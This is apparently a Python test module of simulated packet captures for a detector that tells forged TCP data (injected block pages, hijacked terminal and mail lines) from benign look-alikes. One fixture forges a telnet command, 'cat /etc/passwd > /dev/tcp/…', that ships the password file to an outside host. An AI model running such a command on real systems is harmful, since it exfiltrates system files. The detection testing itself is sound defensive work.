# SPDX-License-Identifier: GPL-2.0-or-later
"""Whole answers that somebody else writes, and what servers, front ends and captures do that looks alike."""

from scapy.layers.inet import IP, TCP
from scapy.packet import Raw

from builder import payloads as wire
from builder.flow import Flow
from builder.injector import Injector
from builder.stacks import APPLIANCE, LINUX, LINUX_PLAIN, WINDOWS

from . import ask_http, ask_tls, fetch, guilty, innocent
from .forged_resets import ALLOWED, FORBIDDEN

FAMILY = "data"

NOTICE = b"<html><body><p>This page is not for you.</p></body></html>\n"
FORTINET = ("<html><head><title>Web Filter Violation</title><style>.logo { background:"
            " url(http://url.fortinet.net:8008/XX/YY/ZZ/CI/MGPGHGPGPFGHDDPFGGHGFHBGCHEGPFBGAHAH) }</style>"
            "</head><body><h1>FortiGuard Intrusion Prevention - Access Blocked</h1></body></html>\n")


def moved(location):
    """A redirect."""
    return (f"HTTP/1.1 302 Found\r\nServer: web\r\nLocation: {location}\r\nContent-Length: 0\r\n"
            "Connection: close\r\n\r\n").encode()


# -- forged ------------------------------------------------------------------------------


@guilty("A box answers a request with a page in two segments, a FIN, and later with an acknowledgement of the"
        " client's own FIN; all from another distance, without timestamps and without don't-fragment. The server's"
        " answer comes 150 ms later.",
        "The four packets forged; the server's answer is genuine.")
def page_with_all_that_follows(net):
    client, server = net.client(), net.server(rtt=0.160)
    fetch(client, server, ALLOWED)
    flow = Flow(client, server, 80, 3.0)
    request = ask_http(flow, FORBIDDEN)
    box = Injector(net, "page-and-fin")
    header = {"ttl": 58, "df": False, "window": 1000}
    first = box.page(request, 0.009, NOTICE[:30], "A", ipid=0x9760, **header)
    second = box.page(request, 0.0091, NOTICE[30:], "PA", ipid=0x1211, seq=first.end, **header)
    fin = box.page(request, 0.0092, b"", "FA", ipid=0x8a01, seq=second.end, **header)
    end = flow.client.segment("FA", ack=fin.end, at=request.time + 0.010)
    box.page(request, 0.019, b"", "A", ipid=0x4441, seq=fin.end, ack=end.end, **header)
    box.raced(flow.server.data(wire.http_ok(), reply_to=request), request)
    flow.client.send("R", seq=end.end, ack=0, options=[])


@guilty("An answer in three segments whose window and TTL rise by one with each; the second and third change places"
        " on the way. The server's own answer follows.",
        "All three forged, and not the server's answer.")
def ladder_out_of_order(net):
    client, server = net.client(stack=LINUX_PLAIN), net.server(rtt=0.190, stack=LINUX_PLAIN)
    flow = Flow(client, server, 80)
    request = ask_http(flow, ALLOWED)
    box = Injector(net, "ladder")
    script = (b"HTTP/1.1 200 OK\r\nServer: Apache\r\nContent-Type: text/javascript\r\n\r\n", b"eval(function(p,a,c,k){",
              b"return p}('attack'))")
    seq = request.ack
    for index, (text, delay) in enumerate(zip(script, (0.1803, 0.1806, 0.1805))):
        packet = box.page(request, delay, text, "PA", seq=seq, ttl=201 + index, window=767 + index,
                          ipid=0xda58 - index * 0x91, df=False)
        seq = packet.end
    late = flow.server.data(wire.http_ok("a script"), reply_to=request)
    box.raced(late, request)
    flow.client.send("R", seq=request.end, ack=0, options=[])


@guilty("Somebody on the path writes a command into a terminal session, in the client's name, with a packet tool: IP"
        " ID 1, no don't-fragment, no timestamps.",
        "The command forged.", vantage="border")
def command_in_the_clients_name(net):
    client, server = net.client(), net.server()
    flow = Flow(client, server, 23)
    flow.handshake()
    flow.server.data(b"login: ", after=0.1)
    flow.client.ack()
    for text in (b"ann\r\n", b"secret\r\n", b"ls\r\n"):
        flow.client.data(text, after=0.8)
        flow.server.data(text, after=0.02)
        flow.client.ack()
    forged = flow.client.segment("PA", b"\rcat /etc/passwd > /dev/tcp/198.51.100.7/9090\r", after=2.0, ipid=1, df=False,
                                 options=[], window=8192)
    net.mark(forged, "forged", "data", "session-hijack")
    flow.server.segment("A", ack=forged.end, after=0.01)


@guilty("Somebody on the path writes a line to a mail server in the client's name, seen at the server: header and"
        " distance are not the client's, the server acknowledges it, and all that the client acknowledges later has"
        " the number before it.",
        "The line forged, once the client has shown that it does not know of it.", vantage="server")
def line_in_the_clients_name(net):
    client, server = net.client(), net.server()
    flow = Flow(client, server, 25)
    flow.handshake()
    flow.server.data(b"220 mail.example ESMTP\r\n", after=0.01)
    flow.client.ack()
    flow.client.data(b"HELO client.example\r\n", after=0.05)
    flow.server.ack()
    flow.server.data(b"250 mail.example\r\n", after=0.002)
    flow.client.ack()
    forged = flow.client.segment("PA", b"\r\n.\r\nQUIT\r\n", after=0.8, ipid=0xB3BF, window=1164,
                                 ttl=client.seen_ttl() + 61)
    net.mark(forged, "forged", "data", "probe")
    flow.server.segment("A", ack=forged.end, at=forged.time + 0.00004)
    reply = flow.server.segment("PA", b"221 Bye\r\n", ack=forged.end, at=forged.time + 0.0007)
    denial = flow.client.segment("A", ack=reply.end, at=reply.time + 0.041)
    net.mark(denial, "genuine", "data", "probe")
    flow.client.segment("A", ack=reply.end, at=reply.time + 0.203)


@innocent("A busy client, seen at the server: hundreds of packets to others between two of its lines, and an"
          " acknowledgement that the second line overtakes by 40 ms.", never="The line forged.", vantage="server")
def line_of_a_busy_client(net):
    client, server = net.client(stack=WINDOWS), net.server()
    flow = Flow(client, server, 25)
    flow.handshake()
    flow.server.data(b"220 mail.example ESMTP\r\n", after=0.01)
    late = flow.client.segment("A", at=flow.now + 0.091, ack=flow.client.received)
    for _ in range(400):
        client.next_ipid("host")
    flow.client.data(b"HELO client.example\r\n", after=0.05)
    flow.server.ack()
    flow.client.segment("A", at=late.time + 0.2)


@guilty("Somebody who sees a chat sends copies of the server's last acknowledgement with data, each one byte further"
        " on. The client acknowledges them. When the server closes, its FIN lies where the first of them began.",
        "The copies forged.")
def copies_of_the_last_acknowledgement(net):
    client, server = net.client(), net.server(rtt=0.060)
    flow = Flow(client, server, 9666)
    flow.handshake()
    for _ in range(8):
        flow.wait(0.3)
        flow.client.data(b"\n")
        last = flow.server.ack()
    stamp = [("NOP", None), ("NOP", None), ("Timestamp", (last.tsval, flow.server.peer_timestamp))]
    for index in range(6):
        forged = flow.server.segment("A", b"meowmeowmeow", seq=last.seq + index, at=last.time + 0.0004 * (index + 1),
                                     ipid=last.ipid, options=stamp)
        net.mark(forged, "forged", "data", "spray")
        flow.client.segment("A", ack=forged.end, at=forged.time + 0.00003)
    flow.wait(5)
    flow.server.fin(after=0.1)


@guilty("A firewall on the path, as far away as the server by TTL, answers a request with its block page, which it"
        " repeats because nobody acknowledges it. The server's host counts its packets; the page has random IP IDs.",
        "The page forged wherever it is sent; the evidence names the firewall's maker.")
def firewall_page_off_the_counter(net):
    client, server = net.client(), net.server(rtt=0.020, stack=WINDOWS)
    for start in range(6):
        fetch(client, server, ALLOWED, start=0.2 * start)
    flow = Flow(client, server, 80, 1.05)
    request = ask_http(flow, FORBIDDEN)
    box = Injector(net, "firewall-page")
    for delay in (0.0204, 0.220, 0.620):
        box.page(request, delay, wire.http_ok(FORTINET, "403 Forbidden"), "PA",
                 ipid=net.random.choice((server.counter + 20000, server.counter + 40000)) & 0xFFFF, window=1026)
    request.asks = FORBIDDEN
    fetch(client, server, ALLOWED, start=1.08)


@guilty("A filter on the path answers a TLS ClientHello with a redirect over plain HTTP and closes; it is nearer than"
        " the server, whose SYN/ACK took 180 ms.",
        "The redirect forged.")
def plain_redirect_for_a_client_hello(net):
    client, server = net.client(), net.server(rtt=0.180)
    flow = Flow(client, server)
    hello = ask_tls(flow, FORBIDDEN)
    Injector(net, "plain-redirect").page(hello, 0.011, moved("http://filter.isp.example/blocked"), "FPA", ttl=60,
                                         df=False, ipid=0x5151, window=229)
    flow.client.fin(after=0.02)


@guilty("After the ClientHello comes a PSH without data in the server's name, with the hello's IP ID and from another"
        " distance. The hello is repeated in vain.",
        "The empty packet forged, and the hello silenced.")
def empty_push_hides_a_silence(net):
    client, server = net.client(), net.server(rtt=0.110)
    fetch(client, server, ALLOWED)
    flow = Flow(client, server, 443, 3.0)
    hello = ask_tls(flow, FORBIDDEN)
    forged = flow.server.segment("PA", seq=hello.ack, ack=hello.end, at=hello.time + 0.012, ttl=59, ipid=hello.ipid,
                                 window=hello.window)
    net.mark(forged, "forged", "ack", "empty-push", FORBIDDEN)
    net.mark(hello, "silenced", "silence", "empty-push", FORBIDDEN)
    for after in (0.3, 0.6, 1.2, 2.4, 4.8):
        flow.now = flow.client.again(hello, after).time


@guilty("An injected answer and the server's own begin alike and are equally long; they differ after their headers."
        " The injected one acknowledges less of the client than the server has already acknowledged, and starts from"
        " another initial TTL.",
        "The injected answer forged, the server's genuine.")
def answers_that_begin_alike(net):
    client, server = net.client(), net.server(rtt=0.090, hops=2, stack=WINDOWS)
    for start in range(2):
        fetch(client, server, ALLOWED, start=float(start))
    flow = Flow(client, server, 80, 3.0)
    request = ask_http(flow, FORBIDDEN)
    box = Injector(net, "look-alike")
    flow.server.ack(reply_to=request)
    page = wire.http_ok("a" * 120 + "A page of somebody else.\n")
    box.page(request, 0.108, page, "PA", ack=request.ack, seq=request.ack, ttl=62, df=True, window=1026,
             ipid=server.next_ipid("host")).ack = request.seq
    net.packets[-1].network[TCP].ack = request.seq
    box.raced(flow.server.data(page.replace(b"a" * 120 + b"A page of somebody else.",
                                            b"b" * 120 + b"The page of this server."), after=0.04), request)
    flow.client.ack()


# -- genuine -----------------------------------------------------------------------------


@innocent("A balancer answers SYNs with TTL 244, the servers behind it the requests with 47; one of the answers is a"
          " redirect to a partner's site, another one a page with a FIN.",
          never="Redirect or page forged: a front end's distance and a redirect are both everyday.")
def front_end_and_a_redirect(net):
    client, server = net.client(), net.server(rtt=0.060)
    for start, answer, flags in ((0.0, moved("http://ads.partner.example/click?x=1"), "PA"),
                                 (2.0, wire.http_ok(), "FPA"), (4.0, moved("https://www.allowed.example/"), "FPA")):
        flow = Flow(client, server, 80, start)
        flow.handshake(ttl=244)
        request = flow.request(wire.http_get(ALLOWED), ALLOWED)
        flow.server.send(flags, answer, reply_to=request)
        flow.client.ack()
        flow.client.fin()


@innocent("A messenger's servers start from initial TTLs of their own: 84 to 88 and 218 arrive here, from several"
          " addresses, in whole connections and in one whose beginning was not captured.",
          never="Any of it forged.")
def initial_ttls_of_their_own(net):
    client = net.client()
    for index, ttl in enumerate((84, 86, 218)):
        server = net.server(f"203.0.113.{90 + index}", stack=LINUX.but(ttl=ttl), hops=0, rtt=0.040)
        flow = fetch(client, server, ALLOWED, start=3.0 * index)
        if index == 1:
            net.packets = [packet for packet in net.packets if packet.end_point not in (flow.client, flow.server)
                           or packet.time > 3.05]


@innocent("A server's listeners differ: the one on port 80 was made before path MTU discovery was switched off, the"
          " one on port 8080 after. SYN/ACKs set don't-fragment on both.",
          never="Data of either port forged, for their don't-fragment flag.")
def listeners_that_differ(net):
    client, server = net.client(), net.server(rtt=0.060)
    for start in range(3):
        fetch(client, server, ALLOWED, start=float(start))
    old = server.stack
    for start in range(2):
        flow = Flow(client, server, 8080, 4.0 + start)
        flow.handshake()
        request = flow.request(wire.http_get(ALLOWED), ALLOWED)
        server.stack = old.but(df=False)
        flow.server.ack(reply_to=request)
        flow.server.data(wire.http_ok(), after=0.002)
        server.stack = old
        flow.client.ack()


@innocent("Servers that know nothing but HTTP listen on port 443. One answers ClientHellos with 400, one with a"
          " redirect that it sends whatever it is asked, at its own distance and after its own round trip.",
          never="Either answer forged.")
def plain_servers_on_443(net):
    client = net.client()
    for index, answer in enumerate((b"HTTP/1.1 400 Bad Request\r\nConnection: close\r\n\r\n",
                                    moved("http://www.allowed.example/"))):
        server = net.server(f"203.0.113.{90 + index}", rtt=0.060)
        flow = Flow(client, server, 443, 2.0 * index)
        hello = ask_tls(flow, ALLOWED)
        flow.server.ack(reply_to=hello)
        flow.server.data(answer, after=0.001)
        flow.server.fin(after=0.00002)
        flow.client.ack()


@innocent("Two answers of a server are damaged on the way, in a few bytes each; their checksums are wrong, and the"
          " client discards them. They are sent again.",
          never="Damaged or whole answers forged.")
def damaged_on_the_way(net):
    client, server = net.client(), net.server(rtt=0.060)
    for start in range(2):
        flow = Flow(client, server, 80, 3.0 * start)
        ask_http(flow, ALLOWED)
        flow.server.ack()
        for _ in range(3):
            flow.server.data(wire.http_ok("x" * 400), after=0.01)
            flow.client.ack()
        whole = flow.server.data(wire.http_ok("y" * 600), after=0.02)
        damaged = net.packets[-1].network
        sent = IP(bytes(damaged))
        text = bytearray(whole.payload)
        for at in (3, 200, 201, 500):
            text[at] ^= 0x41
        damaged[TCP].chksum = sent[TCP].chksum
        damaged[Raw].load = bytes(text)
        flow.server.again(whole, 0.25)
        flow.client.ack()


@innocent("A proxy changes a header in the answer that the server sends again, and again, because the client does not"
          " acknowledge.",
          expect="The two answers that differ suspected, once each.", never="Any of them forged, or 30 suspected.")
def sent_again_and_again(net):
    client, server = net.client(), net.server(rtt=0.060)
    fetch(client, server, ALLOWED)
    flow = Flow(client, server, 80, 3.0)
    ask_http(flow, ALLOWED)
    flow.server.ack()
    first = flow.server.data(wire.http_ok().replace(b"Server: web", b"Via: 1.1 px1")[:-1], after=0.002)
    text = wire.http_ok()
    for _ in range(30):
        flow.now = flow.server.segment("PA", text, seq=first.seq, after=0.2).time


@innocent("A terminal server sends PSH without data with its keep-alives, and an appliance reflects the IP ID of what"
          " it acknowledges.",
          never="Any acknowledgement forged.")
def odd_acknowledgements(net):
    client, server = net.client(), net.server(rtt=0.060)
    flow = Flow(client, server, 23)
    flow.handshake()
    for _ in range(3):
        flow.server.segment("PA", after=30.0)
        flow.now += 30
        flow.client.segment("A", after=0.0001)
    mirror = net.server("203.0.113.91", stack=APPLIANCE, rtt=0.020)
    flow = Flow(client, mirror, 23, 100.0)
    flow.handshake()
    for _ in range(4):
        sent = flow.client.data(b"status\r\n", after=0.5)
        flow.server.ack(ipid=sent.ipid)
        flow.server.data(b"ok\r\n", after=0.01)
        flow.client.ack()
